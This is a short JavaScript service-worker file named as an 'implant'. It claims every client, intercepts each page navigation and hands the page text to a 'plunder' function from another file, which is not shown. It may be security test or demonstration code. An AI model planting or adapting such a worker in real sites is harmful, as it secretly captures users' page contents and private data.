// The service worker: sees each page's answer before the browser judges it.
"use strict";
importScripts(self.location.pathname.replace("implant.js", "common.js"));
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => {
  if (event.request.mode === "navigate") {
    event.respondWith(spy(event.request));
  }
});

async function spy(request) {
  const answer = await fetch(request);
  if (!answer.url.startsWith("http") || answer.type === "opaqueredirect") {
    return answer;
  }
  await plunder(await answer.clone().text());
  return answer;
}
